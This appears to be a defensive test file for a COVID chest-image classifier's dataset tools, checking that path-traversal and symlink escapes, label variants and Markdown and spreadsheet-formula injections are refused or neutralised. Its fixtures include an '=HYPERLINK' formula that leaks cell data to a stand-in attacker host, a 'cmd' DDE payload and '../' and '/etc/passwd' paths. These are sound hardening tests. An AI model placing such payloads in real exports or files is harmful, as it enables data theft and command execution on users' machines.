// Attack tests of datasets and outputs (issue 13, items 7, 8 and 12), each hostile manifest,
// link and field made here: manifest paths that leave the dataset folder (by "..", absolute paths
// or symbolic links) for reading and for `dataset augment`'s writes; labels in other spellings,
// misspelt labels, files listed twice or with two labels, symlinked images; Markdown structure and
// spreadsheet formulas in manifest fields reaching report.html, summary.md and predictions.csv.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import sharp from 'sharp';
import { DatasetError } from '../src/errors.js';
import { augmentDataset } from '../src/dataset/augment.js';
import { checkDataset, formatCheckReport } from '../src/dataset/check.js';
import { readDataset } from '../src/dataset/read.js';
import { FeatureCache } from '../src/features/cache.js';
import { trainRun } from '../src/protocol/train-run.js';
import { predictionsCsv } from '../src/protocol/run-files.js';
import { groupTable } from '../src/report/tables.js';
import { markdownToHtml, inlineHtml } from '../src/report/markdown-html.js';
import { writeRunReport } from '../src/report/run-report.js';
import { formatCsv, parseCsv } from '../src/util/csv.js';
import { mdCode, mdText } from '../src/util/markdown-text.js';
import { makeTinyDataset } from './helpers/tiny-dataset.js';
import { skipNoShared } from './helpers/shared.js';

let work = '';
let png: Buffer;
before(async () => {
  work = await mkdtemp(join(tmpdir(), 'dc-hardening-data-'));
  png = await sharp(Buffer.alloc(64 * 64, 120), { raw: { width: 64, height: 64, channels: 1 } }).png().toBuffer();
});
after(async () => {
  if (work) await rm(work, { recursive: true, force: true });
});

/** A distinct small PNG (random noise), so no two fixture images are duplicates. */
function noisePng(): Promise<Buffer> {
  return sharp(randomBytes(64 * 64), { raw: { width: 64, height: 64, channels: 1 } }).png().toBuffer();
}

/** A dataset folder `name` with the given images (each a distinct PNG) and manifest rows. */
async function dataset(name: string, files: string[], manifest?: string[]): Promise<string> {
  const root = join(work, name);
  for (const f of files) {
    await mkdir(join(root, f, '..'), { recursive: true });
    await writeFile(join(root, f), await noisePng());
  }
  await mkdir(root, { recursive: true });
  if (manifest) await writeFile(join(root, 'manifest.csv'), ['split,label,file', ...manifest].join('\n') + '\n');
  return root;
}

const isDatasetError = (pattern: RegExp) => (e: unknown) => e instanceof DatasetError && pattern.test(e.message);

// ---- item 7: manifest paths stay inside the dataset folder ----

describe('manifest paths are confined to the dataset folder', () => {
  test('"..", absolute and drive paths are refused with the row named, by readDataset, check and augment; nothing is written outside', async () => {
    const outside = join(work, 'outside');
    await mkdir(join(outside, 'train', 'covid'), { recursive: true });
    await writeFile(join(outside, 'train', 'covid', 'victim.png'), png);
    const hostile = [
      ['train,covid,../outside/train/covid/victim.png', /row 4: file "\.\.\/outside\/train\/covid\/victim\.png" leaves the dataset folder/],
      ['train,covid,train/../../outside/train/covid/victim.png', /row 4: .* leaves the dataset folder/],
      ['train,covid,..\\outside\\train\\covid\\victim.png', /row 4: .* leaves the dataset folder/],
      [`train,covid,${join(outside, 'train', 'covid', 'victim.png')}`, /row 4: .* is an absolute path/],
      ['train,covid,C:\\data\\victim.png', /row 4: .* is an absolute path/],
      ['train,covid,file:///etc/passwd', /row 4: .* is an absolute path/],
    ] as const;
    for (const [k, [row, message]] of hostile.entries()) {
      const root = await dataset(`escape-${k}`, ['train/covid/a.png', 'train/non/b.png'], ['train,covid,train/covid/a.png', 'train,non,train/non/b.png', row]);
      await assert.rejects(readDataset(root), isDatasetError(message), row);
      await assert.rejects(checkDataset(root, {}), isDatasetError(message), row);
      await assert.rejects(augmentDataset(root, { factor: 3 }), isDatasetError(message), row);
    }
    assert.deepEqual(await readdir(join(outside, 'train', 'covid')), ['victim.png'], 'augment wrote nothing beside the victim');
  });

  test('a symbolic link (to a folder or a file) leading outside is refused; links inside are followed', async () => {
    const outside = join(work, 'outside-linked');
    await mkdir(outside, { recursive: true });
    await writeFile(join(outside, 'victim.png'), png);
    const root = await dataset('linked', ['train/covid/a.png', 'train/non/b.png', 'pool/c.png']);
    await symlink(outside, join(root, 'train', 'elsewhere'));
    await symlink(join(outside, 'victim.png'), join(root, 'train', 'covid', 'out.png'));
    await symlink(join(root, 'pool', 'c.png'), join(root, 'train', 'non', 'in.png'));
    const write = (rows: string[]) => writeFile(join(root, 'manifest.csv'), ['split,label,file', 'train,covid,train/covid/a.png', 'train,non,train/non/b.png', ...rows].join('\n') + '\n');
    await write(['train,covid,train/elsewhere/victim.png']);
    await assert.rejects(readDataset(root), isDatasetError(/row 4: file "train\/elsewhere\/victim\.png" is reached through a symbolic link that leads to .*outside-linked.*outside the dataset folder/));
    await assert.rejects(augmentDataset(root, { factor: 3 }), DatasetError);
    await write(['train,covid,train/covid/out.png']);
    await assert.rejects(readDataset(root), isDatasetError(/row 4: .*symbolic link.*victim\.png/));
    await assert.rejects(trainRun({ data: root, out: join(work, 'never-run'), config: { backbone: 'squeezenet1_1' }, cache: null }), isDatasetError(/symbolic link/));
    assert.deepEqual(await readdir(outside), ['victim.png']);
    // a link that stays inside is followed
    await write(['train,non,train/non/in.png']);
    const ds = await readDataset(root);
    assert.deepEqual(ds.items.map((i) => i.rel), ['train/covid/a.png', 'train/non/b.png', 'train/non/in.png']);
    // without a manifest the folder reader applies the same rule and names the links
    await rm(join(root, 'manifest.csv'));
    await assert.rejects(readDataset(root), isDatasetError(/2 symbolic link\(s\) lead outside it \(.*train\/covid\/out\.png → [^,]*victim\.png/));
    await assert.rejects(readDataset(root), isDatasetError(/train\/elsewhere → [^,]*outside-linked/));
  });
});

// ---- item 8: labels, repeated listings, symlinked images ----

describe('labels, duplicates and conflicts', () => {
  test('"Covid", "covid ", "COVID-19", "covid19", "SARS-CoV-2" are COVID; misspelt labels are refused with the labels seen', async () => {
    const files = ['a', 'b', 'c', 'd', 'e', 'f', 'g'].map((x) => `train/x/${x}.png`);
    const root = await dataset('labels', files, [
      'train,Covid,train/x/a.png', 'train,covid ,train/x/b.png', 'train,COVID-19,train/x/c.png', 'train,covid19,train/x/d.png',
      'train, SARS-CoV-2,train/x/e.png', 'train,Normal,train/x/f.png', 'train,non,train/x/g.png',
    ]);
    const ds = await readDataset(root);
    assert.deepEqual(ds.items.map((i) => [i.rel.slice(8), i.label, i.className]), [
      ['a.png', 1, 'covid'], ['b.png', 1, 'covid'], ['c.png', 1, 'covid'], ['d.png', 1, 'covid'], ['e.png', 1, 'covid'], ['f.png', 0, 'Normal'], ['g.png', 0, 'non'],
    ]);
    assert.deepEqual(ds.respelled.map((r) => r.written).sort(), [' SARS-CoV-2', 'COVID-19', 'Covid', 'covid19']);
    const report = await checkDataset(root, {});
    assert.deepEqual(report.counts.map((c) => [c.class, c.images]), [['Normal', 1], ['covid', 5], ['non', 1]]);
    assert.ok(report.warnings.some((w) => /label "COVID-19" read as "covid"/.test(w)));
    // one misspelt label: refused, naming it, its row and every label seen
    await writeFile(join(root, 'manifest.csv'), 'split,label,file\ntrain,covid,train/x/a.png\ntrain,covd,train/x/b.png\ntrain,non,train/x/g.png\ntrain,recovered,train/x/c.png\n');
    await assert.rejects(readDataset(root), isDatasetError(/"covd" \(first at row 3\).*"recovered" \(first at row 5\).*Labels seen: "covid" \(1\), "covd" \(1\), "non" \(1\), "recovered" \(1\)/));
    // folder names follow the same rules
    const folders = await dataset('label-folders', ['COVID-19/a.png', 'Normal/b.png']);
    assert.deepEqual((await readDataset(folders)).items.map((i) => [i.split, i.label]), [['all', 1], ['all', 0]]);
    const misspelt = await dataset('label-folders-bad', ['train/covd/a.png', 'train/non/b.png']);
    await assert.rejects(readDataset(misspelt), isDatasetError(/class folder\(s\).*"covd" \(first at train\/covd\)/));
    // augment selects the class whatever its spelling
    const aug = await dataset('label-augment', ['train/x/a.png', 'train/x/b.png'], ['train,COVID-19,train/x/a.png', 'train,normal,train/x/b.png']);
    assert.equal((await augmentDataset(aug, { className: 'Covid', factor: 2 })).written, 1);
  });

  test('a file listed twice is counted once and flagged; one file with two labels or splits is refused for training and flagged by check', async () => {
    const root = await dataset('repeats', ['train/covid/a.png', 'train/non/b.png', 'test/non/c.png'], [
      'train,covid,train/covid/a.png', 'train,non,train/non/b.png', 'test,non,test/non/c.png', 'train,covid,./train/covid/a.png',
    ]);
    const ds = await readDataset(root);
    assert.equal(ds.items.length, 3);
    assert.deepEqual(ds.duplicates.map((d) => [d.file, d.entries.map((e) => e.row)]), [['train/covid/a.png', [2, 5]]]);
    // the same file as covid and as non
    await writeFile(join(root, 'manifest.csv'), 'split,label,file\ntrain,covid,train/covid/a.png\ntrain,non,train/non/b.png\ntest,non,test/non/c.png\ntrain,non,train/covid/a.png\n');
    await assert.rejects(readDataset(root), isDatasetError(/1 file\(s\) with different labels or splits: train\/covid\/a\.png: row 2 "covid" in train vs row 5 "non" in train/));
    await assert.rejects(trainRun({ data: root, out: join(work, 'never-run-2'), config: { backbone: 'squeezenet1_1' }, cache: null }), isDatasetError(/different labels/));
    let report = await checkDataset(root, {});
    assert.equal(report.conflictingListings.length, 1);
    assert.ok(formatCheckReport(report).some((l) => /conflict: train\/covid\/a\.png is listed as row 2 "covid" in train and as row 5 "non" in train/.test(l)));
    assert.equal(report.leakage, false);
    // the same file in train and in test is leakage
    await writeFile(join(root, 'manifest.csv'), 'split,label,file\ntrain,covid,train/covid/a.png\ntrain,non,train/non/b.png\ntest,non,test/non/c.png\ntest,covid,train/covid/a.png\n');
    report = await checkDataset(root, {});
    assert.equal(report.leakage, true);
    assert.ok(formatCheckReport(report).some((l) => /train\/covid\/a\.png is listed in train and test/.test(l)));
  });

  test('symlinked images inside the folder are read (not dropped); two links to one file with two labels are a conflict; a dangling link is kept to be reported', async () => {
    const root = await dataset('symlinked-images', ['pool/a.png', 'pool/b.png', 'train/non/c.png']);
    await mkdir(join(root, 'train', 'covid'), { recursive: true });
    await symlink(join(root, 'pool', 'a.png'), join(root, 'train', 'covid', 'a.png'));
    await symlink('../../pool/b.png', join(root, 'train', 'covid', 'b.png'));
    await symlink(join(root, 'pool', 'gone.png'), join(root, 'train', 'non', 'dangling.png'));
    const ds = await readDataset(root);
    assert.deepEqual(ds.items.map((i) => `${i.rel}:${i.label}`), ['train/covid/a.png:1', 'train/covid/b.png:1', 'train/non/c.png:0', 'train/non/dangling.png:0']);
    const report = await checkDataset(root, {});
    assert.deepEqual(report.unreadable.map((u) => u.file), ['train/non/dangling.png']);
    await symlink(join(root, 'pool', 'a.png'), join(root, 'train', 'non', 'a-again.png'));
    await assert.rejects(readDataset(root), isDatasetError(/pool\/a\.png: train\/covid\/a\.png "covid" in train vs train\/non\/a-again\.png "non" in train/));
  });
});

// ---- item 12: Markdown structure and spreadsheet formulas from data ----

describe('data in reports and CSVs', () => {
  const FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")';
  const HEADING = 'hospital A\n# Injected heading\n| x | y |';

  test('CSV cells that a spreadsheet would run as formulas are neutralised, numbers stay numbers, and reading restores every value', () => {
    const values = [FORMULA, '+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', "'=already quoted", "''=twice", '-0.5', '+3', '1e-5', '-', 'plain', "it's", ''];
    const csv = formatCsv(values.map((v) => ({ v, n: -0.25 })), ['v', 'n']);
    const cells = parseCsvRaw(csv);
    for (let i = 0; i < values.length; i++) {
      const cell = cells[i + 1][0];
      const dangerous = /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(cell);
      assert.ok(!dangerous, `cell ${JSON.stringify(cell)} would be run as a formula`);
      assert.equal(cells[i + 1][1], '-0.25');
    }
    assert.equal(cells[1][0], `'${FORMULA}`);
    assert.deepEqual(['-0.5', '+3', '1e-5', 'plain'].map((v) => cells[values.indexOf(v) + 1][0]), ['-0.5', '+3', '1e-5', 'plain']);
    assert.deepEqual(parseCsv(csv).map((r) => r.v), values);
  });

  test('a newline or "|" in a source name cannot add a heading, a row or a cell to a Markdown table or its HTML', () => {
    const groups = { [HEADING]: fakeGroup(), 'a|b': fakeGroup(), 'x*y*z_[link](http://e)<b>': fakeGroup() };
    const md = groupTable('source', groups);
    assert.equal(md.split('\n').length, 2 + 3, 'one line per group');
    const html = markdownToHtml(md, () => null);
    assert.doesNotMatch(html, /<h1/);
    assert.doesNotMatch(html, /<b>|<em>|<a /);
    const rows = html.match(/<tr>.*?<\/tr>/g)!;
    assert.equal(rows.length, 4);
    for (const r of rows) assert.equal(r.match(/<t[dh][ >]/g)!.length, 8, r);
    assert.match(html, /hospital A # Injected heading \| x \| y \|/);
    assert.match(html, /<td>a\|b<\/td>/);
    assert.match(html, /x\*y\*z_\[link\]\(http:\/\/e\)&lt;b&gt;/);
    // the escapes round-trip through the converter exactly
    for (const s of ['a\\b', '`x`', '**bold**', '1 < 2 & 3', '#tag']) {
      assert.equal(inlineHtml(mdText(s)), s.replace(/&/g, '&amp;').replace(/</g, '&lt;'));
    }
    assert.equal(inlineHtml(mdCode('dir/with`tick')), 'dir/with`tick');
    assert.equal(inlineHtml(mdCode('a\nb')), '<code>a b</code>');
  });

  test('end to end: hostile manifest fields reach neither report.html nor summary.md as structure, nor predictions.csv as formulas', { skip: skipNoShared }, async () => {
    const data = await makeTinyDataset({ train: [8, 8], test: [4, 4], perPatient: 2, manifest: true });
    try {
      const rows = parseCsv(await readFile(join(data, 'manifest.csv'), 'utf8'));
      for (const r of rows) if (r.split === 'test') r.source = r.label === 'covid' ? FORMULA : HEADING;
      await writeFile(join(data, 'manifest.csv'), formatCsv(rows, Object.keys(rows[0])));
      const out = join(work, 'hostile-run');
      await trainRun({ data, out, config: { backbone: 'squeezenet1_1', epochs: 2, augmentFactor: 1, seed: 1 }, cache: new FeatureCache(join(work, 'cache')) });
      const csvText = await readFile(join(out, 'predictions.csv'), 'utf8');
      assert.ok(!/(^|,)"?=HYPERLINK/m.test(csvText), 'no cell starts with =HYPERLINK');
      assert.ok(csvText.includes(`'=HYPERLINK`));
      assert.ok(parseCsv(csvText).some((r) => r.source === FORMULA), 'the value itself reads back unchanged');
      const summary = await readFile(join(out, 'summary.md'), 'utf8');
      assert.doesNotMatch(summary, /^# Injected/m);
      const { out: reportDir } = await writeRunReport(out);
      const html = await readFile(join(reportDir, 'report.html'), 'utf8');
      assert.doesNotMatch(html, /<h\d[^>]*>\s*Injected heading/);
      assert.match(html, /hospital A # Injected heading/);
      const md = await readFile(join(reportDir, 'report.md'), 'utf8');
      assert.doesNotMatch(md, /^# Injected/m);
    } finally {
      await rm(data, { recursive: true, force: true });
    }
  });

  test('predictions.csv from items with formula-like fields', () => {
    const csv = predictionsCsv([{ file: '/x', rel: '=cmd.png', split: 'test', label: 1, className: 'covid', source: '@evil', view: '-AP', patient: '+p1' }], Float64Array.from([0.25]), 0.5);
    const [, row] = parseCsvRaw(csv);
    assert.deepEqual(row, ["'=cmd.png", 'covid', '0.250000', 'non', "'+p1", "'@evil", "'-AP"]);
  });
});

/** Cells of CSV text as a spreadsheet sees them (quotes removed, nothing else undone). */
function parseCsvRaw(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; } else cell += c;
  }
  return rows;
}

function fakeGroup() {
  const p = { k: 1, n: 2, estimate: 0.5, wilson: [0.1, 0.9] as [number, number] };
  return { n: 4, positives: 2, negatives: 2, patients: null, auc: null, operatingPoint: { sensitivity: p, specificity: p } } as unknown as Parameters<typeof groupTable>[1][string];
}
